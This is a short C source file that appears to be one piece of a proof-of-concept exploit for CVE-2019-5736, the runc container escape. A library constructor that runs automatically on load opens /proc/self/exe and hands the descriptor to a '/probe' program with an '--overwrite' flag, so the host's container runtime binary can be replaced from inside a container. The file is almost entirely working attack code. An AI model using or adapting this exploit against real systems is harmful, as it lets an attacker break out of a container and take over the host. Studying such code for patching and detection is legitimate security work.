// SPDX-License-Identifier: Apache-2.0
// A library of the container's that gets into whatever the runtime runs there: it keeps a way to
// the executable and hands it to the probe. CVE-2019-5736 by the loader.
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void begin(void) {
    char number[16];
    snprintf(number, sizeof number, "%d", open("/proc/self/exe", O_RDONLY));
    execl("/probe", "/probe", "--overwrite", number, NULL);
}
